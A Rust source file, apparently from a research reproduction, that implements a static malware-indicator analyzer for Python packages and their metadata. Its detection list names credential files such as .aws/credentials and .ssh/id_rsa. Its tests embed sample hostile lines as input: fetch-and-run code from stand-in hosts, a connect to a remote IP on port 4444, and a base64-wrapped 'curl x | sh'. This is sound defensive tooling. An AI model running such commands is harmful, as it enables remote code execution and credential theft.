//! The model's "knowledge": Table II behavior auditing over code and
//! metadata.
//!
//! This is the deterministic core of the simulated LLM — a static
//! analyzer that finds the indicators a competent malware analyst would
//! extract. The noise model in [`crate::generate`] then degrades its
//! output per model profile.

use std::sync::OnceLock;

use textmatch::Regex;

/// Which Table II audit row an indicator belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum IndicatorKind {
    /// Indicators of compromise: hosts, IPs, URLs.
    Ioc,
    /// File operations.
    File,
    /// Network activity / C2.
    Network,
    /// Encryption / encoding (obfuscation).
    Encryption,
    /// Privilege operations.
    Privilege,
    /// Anti-debug / anti-analysis.
    AntiDebug,
    /// Suspicious package metadata.
    Metadata,
}

impl IndicatorKind {
    /// Table II row label.
    pub fn label(&self) -> &'static str {
        match self {
            IndicatorKind::Ioc => "IOC",
            IndicatorKind::File => "File Operation",
            IndicatorKind::Network => "Network Activity",
            IndicatorKind::Encryption => "Encryption Function",
            IndicatorKind::Privilege => "Privilege Operation",
            IndicatorKind::AntiDebug => "Anti-debug/Anti-analysis",
            IndicatorKind::Metadata => "Metadata",
        }
    }
}

/// One extracted indicator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Indicator {
    /// The literal string (or regex when `is_regex`).
    pub text: String,
    /// Audit category.
    pub kind: IndicatorKind,
    /// Whether `text` is a regular expression rather than a literal.
    pub is_regex: bool,
}

/// The model's analysis artifact (the `*.txt` output of §IV-A).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Analysis {
    /// Extracted indicators, strongest first.
    pub indicators: Vec<Indicator>,
    /// One-line behavior summary.
    pub summary: String,
}

impl Analysis {
    /// Renders the analysis as the text block embedded in LLM replies.
    ///
    /// Indicator text is newline-escaped so the line-oriented format
    /// round-trips indicators that contain control characters.
    pub fn to_text(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!("summary: {}\n", self.summary));
        for ind in &self.indicators {
            out.push_str(&format!(
                "indicator [{}]{}: {}\n",
                ind.kind.label(),
                if ind.is_regex { " (regex)" } else { "" },
                ind.text
                    .replace('\\', "\\\\")
                    .replace('\n', "\\n")
                    .replace('\t', "\\t"),
            ));
        }
        out
    }

    /// Parses the rendered form back (used by refine/fix handlers that
    /// receive the analysis as prompt input).
    pub fn from_text(text: &str) -> Analysis {
        let mut analysis = Analysis::default();
        for line in text.lines() {
            if let Some(rest) = line.strip_prefix("summary: ") {
                analysis.summary = rest.to_owned();
            } else if let Some(rest) = line.strip_prefix("indicator [") {
                let Some((label, value)) = rest
                    .split_once("]: ")
                    .or_else(|| rest.split_once("] (regex): "))
                else {
                    continue;
                };
                let is_regex = rest.contains("] (regex): ");
                let label = label.trim_end_matches(" (regex)");
                let kind = match label {
                    "IOC" => IndicatorKind::Ioc,
                    "File Operation" => IndicatorKind::File,
                    "Network Activity" => IndicatorKind::Network,
                    "Encryption Function" => IndicatorKind::Encryption,
                    "Privilege Operation" => IndicatorKind::Privilege,
                    "Anti-debug/Anti-analysis" => IndicatorKind::AntiDebug,
                    _ => IndicatorKind::Metadata,
                };
                let mut text = String::with_capacity(value.len());
                let mut chars = value.chars();
                while let Some(c) = chars.next() {
                    if c == '\\' {
                        match chars.next() {
                            Some('n') => text.push('\n'),
                            Some('t') => text.push('\t'),
                            Some('\\') => text.push('\\'),
                            Some(other) => {
                                text.push('\\');
                                text.push(other);
                            }
                            None => text.push('\\'),
                        }
                    } else {
                        text.push(c);
                    }
                }
                analysis.indicators.push(Indicator {
                    text,
                    kind,
                    is_regex,
                });
            }
        }
        analysis
    }
}

/// Suspicious API catalog: (needle, kind). Mirrors Table II's audit rows.
const API_CATALOG: &[(&str, IndicatorKind)] = &[
    // Network / C2
    ("requests.post", IndicatorKind::Network),
    ("requests.get", IndicatorKind::Network),
    ("urllib.request.urlretrieve", IndicatorKind::Network),
    ("urllib.request.urlopen", IndicatorKind::Network),
    ("socket.socket", IndicatorKind::Network),
    ("socket.gethostbyname", IndicatorKind::Network),
    (".connect(", IndicatorKind::Network),
    (".bind(", IndicatorKind::Network),
    // Shell / process (paper folds these into privilege/file rows)
    ("os.system", IndicatorKind::Privilege),
    ("subprocess.Popen", IndicatorKind::Privilege),
    ("subprocess.call", IndicatorKind::Privilege),
    ("subprocess.run", IndicatorKind::Privilege),
    ("subprocess.check_output", IndicatorKind::Privilege),
    ("os.popen", IndicatorKind::Privilege),
    ("os.setuid", IndicatorKind::Privilege),
    ("os.setgid", IndicatorKind::Privilege),
    ("os.kill", IndicatorKind::Privilege),
    ("CreateThread", IndicatorKind::Privilege),
    ("VirtualAlloc", IndicatorKind::Privilege),
    ("ctypes.windll", IndicatorKind::Privilege),
    // File operations
    // Setup/install-time hooks (the paper's Setup Code category)
    ("setuptools.command.install", IndicatorKind::File),
    ("install.run(self)", IndicatorKind::File),
    ("egg_info", IndicatorKind::File),
    ("atexit.register", IndicatorKind::File),
    ("os.chmod", IndicatorKind::File),
    ("os.remove", IndicatorKind::File),
    ("os.walk", IndicatorKind::File),
    ("open('/etc/hosts'", IndicatorKind::File),
    ("crontab", IndicatorKind::File),
    (".bashrc", IndicatorKind::File),
    ("site.getsitepackages", IndicatorKind::File),
    ("pip.conf", IndicatorKind::File),
    (".aws/credentials", IndicatorKind::File),
    (".ssh/id_rsa", IndicatorKind::File),
    (".pypirc", IndicatorKind::File),
    (".npmrc", IndicatorKind::File),
    ("leveldb", IndicatorKind::File),
    // Encryption / obfuscation
    ("base64.b64decode", IndicatorKind::Encryption),
    ("Fernet", IndicatorKind::Encryption),
    ("exec(compile", IndicatorKind::Encryption),
    ("exec(", IndicatorKind::Encryption),
    ("eval(", IndicatorKind::Encryption),
    // Anti-debug / anti-analysis
    ("sys.gettrace", IndicatorKind::AntiDebug),
    ("uuid.getnode", IndicatorKind::AntiDebug),
    ("os._exit(0)", IndicatorKind::AntiDebug),
    // Environment / harvesting (network row in Table II terms)
    ("os.environ", IndicatorKind::Network),
    ("getpass.getuser", IndicatorKind::Network),
    ("platform.platform", IndicatorKind::Network),
    ("boto3", IndicatorKind::Network),
    ("ImageGrab.grab", IndicatorKind::Network),
];

/// The IOC regexes of [`analyze_code`], compiled once per process: the
/// pipeline audits every basic unit of every package, and compiling
/// cost far more than matching.
struct IocRegexes {
    url: Regex,
    ip: Regex,
    b64: Regex,
}

fn ioc_regexes() -> &'static IocRegexes {
    static IOC: OnceLock<IocRegexes> = OnceLock::new();
    IOC.get_or_init(|| IocRegexes {
        url: Regex::new(r"https?://[\w.\-/]{6,80}").expect("static pattern"),
        ip: Regex::new(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}").expect("static pattern"),
        b64: Regex::new(r"[A-Za-z0-9+/]{40,}={0,2}").expect("static pattern"),
    })
}

/// Analyzes a code payload into Table II indicators.
///
/// IOC extraction uses regexes for URLs, dotted-quad IPs, webhook paths
/// and long base64 blobs; API extraction is substring-based over the
/// catalog.
pub fn analyze_code(code: &str) -> Analysis {
    let mut indicators = Vec::new();
    let bytes = code.as_bytes();

    // IOC regexes.
    let re = ioc_regexes();
    for m in re.url.find_all(bytes).into_iter().take(8) {
        let url = String::from_utf8_lossy(&bytes[m.start..m.end]).into_owned();
        // Benign well-known hosts are not IOCs.
        if [
            "readthedocs.io",
            "github.com",
            "githubusercontent",
            "python.org",
            "example.org",
        ]
        .iter()
        .any(|ok| url.contains(ok))
        {
            continue;
        }
        indicators.push(Indicator {
            text: url,
            kind: IndicatorKind::Ioc,
            is_regex: false,
        });
    }
    for m in re.ip.find_all(bytes).into_iter().take(4) {
        let ip = String::from_utf8_lossy(&bytes[m.start..m.end]).into_owned();
        if ip.starts_with("127.") || ip == "0.0.0.0" {
            continue;
        }
        indicators.push(Indicator {
            text: ip,
            kind: IndicatorKind::Ioc,
            is_regex: false,
        });
    }
    // Long base64 blob — keep as a *regex* indicator (the Table I rule).
    if re.b64.is_match(bytes) {
        indicators.push(Indicator {
            text: r"([A-Za-z0-9+/]{4}){10,}={0,2}".to_owned(),
            kind: IndicatorKind::Encryption,
            is_regex: true,
        });
    }

    // API catalog pass.
    for (needle, kind) in API_CATALOG {
        if code.contains(needle) {
            indicators.push(Indicator {
                text: (*needle).to_owned(),
                kind: *kind,
                is_regex: false,
            });
        }
    }

    // Summary from the dominant category.
    let summary = if indicators.is_empty() {
        "no malicious indicators identified".to_owned()
    } else {
        // Fixed kind order for a deterministic tie-break.
        const ORDER: [IndicatorKind; 7] = [
            IndicatorKind::Ioc,
            IndicatorKind::Network,
            IndicatorKind::Privilege,
            IndicatorKind::Encryption,
            IndicatorKind::File,
            IndicatorKind::AntiDebug,
            IndicatorKind::Metadata,
        ];
        let dominant = ORDER
            .iter()
            .max_by_key(|k| indicators.iter().filter(|i| i.kind == **k).count())
            .expect("nonempty order")
            .label();
        format!(
            "suspicious {} behavior with {} indicators",
            dominant,
            indicators.len()
        )
    };
    Analysis {
        indicators,
        summary,
    }
}

/// Audits package-metadata JSON per Table II's metadata rows.
///
/// `metadata_json` is the registry API response shape produced by
/// [`oss_registry::render_registry_json`].
pub fn analyze_metadata(metadata_json: &str) -> Analysis {
    let mut indicators = Vec::new();
    let Ok(meta) = oss_registry::parse_registry_json(metadata_json) else {
        return Analysis {
            indicators,
            summary: "unparsable metadata".to_owned(),
        };
    };
    if meta.description.is_empty() && meta.summary.is_empty() {
        // PKG-INFO renders an empty summary as "Summary: " immediately
        // followed by the Home-page header; anchoring on both lines keeps
        // the string from ever matching a populated summary.
        indicators.push(Indicator {
            text: "Summary: \nHome-page:".to_owned(),
            kind: IndicatorKind::Metadata,
            is_regex: false,
        });
    }
    if meta.version == "0.0" || meta.version == "0.0.0" {
        indicators.push(Indicator {
            text: format!("Version: {}", meta.version),
            kind: IndicatorKind::Metadata,
            is_regex: false,
        });
    }
    if let Some(victim) = oss_registry::is_typosquat(&meta.name) {
        indicators.push(Indicator {
            text: format!("Name: {}", meta.name),
            kind: IndicatorKind::Metadata,
            is_regex: false,
        });
        let _ = victim;
    }
    for dep in &meta.dependencies {
        let known = oss_registry::POPULAR_PACKAGES.contains(&dep.as_str())
            || ["setuptools", "wheel", "pip"].contains(&dep.as_str());
        if !known && dep.len() > 6 {
            indicators.push(Indicator {
                text: format!("Requires-Dist: {dep}"),
                kind: IndicatorKind::Metadata,
                is_regex: false,
            });
        }
    }
    let summary = if indicators.is_empty() {
        "metadata looks ordinary".to_owned()
    } else {
        format!("{} metadata red flags", indicators.len())
    };
    Analysis {
        indicators,
        summary,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_network_and_shell_apis() {
        let a = analyze_code("import os, requests\ncmd = requests.get('https://zorbex.xyz/t').text\nos.system(cmd)\n");
        let texts: Vec<&str> = a.indicators.iter().map(|i| i.text.as_str()).collect();
        assert!(texts.contains(&"requests.get"));
        assert!(texts.contains(&"os.system"));
        assert!(texts.iter().any(|t| t.contains("zorbex.xyz")));
    }

    #[test]
    fn benign_hosts_not_iocs() {
        let a = analyze_code("requests.get('https://api.github.com/repos/x/releases')\n");
        assert!(a.indicators.iter().all(|i| i.kind != IndicatorKind::Ioc));
    }

    #[test]
    fn extracts_ip_iocs_but_not_localhost() {
        let a = analyze_code("s.connect(('185.62.190.159', 4444)); t.connect(('127.0.0.1', 80))\n");
        let iocs: Vec<&Indicator> = a
            .indicators
            .iter()
            .filter(|i| i.kind == IndicatorKind::Ioc)
            .collect();
        assert_eq!(iocs.len(), 1);
        assert_eq!(iocs[0].text, "185.62.190.159");
    }

    #[test]
    fn base64_blob_becomes_regex_indicator() {
        let payload =
            digest::base64::encode(b"import os; os.system('curl x | sh'); print('padding')");
        let a = analyze_code(&format!("exec(base64.b64decode('{payload}'))\n"));
        assert!(a.indicators.iter().any(|i| i.is_regex));
        assert!(a.indicators.iter().any(|i| i.text == "base64.b64decode"));
    }

    #[test]
    fn clean_code_has_no_indicators() {
        let a = analyze_code("def add(a, b):\n    return a + b\n");
        assert!(a.indicators.is_empty());
        assert!(a.summary.contains("no malicious"));
    }

    #[test]
    fn analysis_text_roundtrip() {
        let a = analyze_code("os.system('x'); requests.post('https://bexlum.top/c', data=d)\n");
        let text = a.to_text();
        let back = Analysis::from_text(&text);
        assert_eq!(back.summary, a.summary);
        assert_eq!(back.indicators.len(), a.indicators.len());
        for (x, y) in back.indicators.iter().zip(&a.indicators) {
            assert_eq!(x.text, y.text);
            assert_eq!(x.kind, y.kind);
        }
    }

    #[test]
    fn metadata_audit_flags_zero_version_and_empty_description() {
        let meta = oss_registry::PackageMetadata::new("sometool", "0.0.0");
        let json = oss_registry::render_registry_json(&meta);
        let a = analyze_metadata(&json);
        assert!(a.indicators.iter().any(|i| i.text.contains("0.0.0")));
        assert!(a.indicators.iter().any(|i| i.text.starts_with("Summary")));
    }

    #[test]
    fn metadata_audit_flags_typosquat() {
        let meta = oss_registry::PackageMetadata::new("reqests", "1.2.0");
        let json = oss_registry::render_registry_json(&meta);
        let a = analyze_metadata(&json);
        assert!(a.indicators.iter().any(|i| i.text.contains("reqests")));
    }

    #[test]
    fn metadata_audit_passes_clean_metadata() {
        let mut meta = oss_registry::PackageMetadata::new("goodlib", "2.3.1");
        meta.summary = "a library".into();
        meta.description = "docs".into();
        let json = oss_registry::render_registry_json(&meta);
        let a = analyze_metadata(&json);
        assert!(a.indicators.is_empty());
    }
}
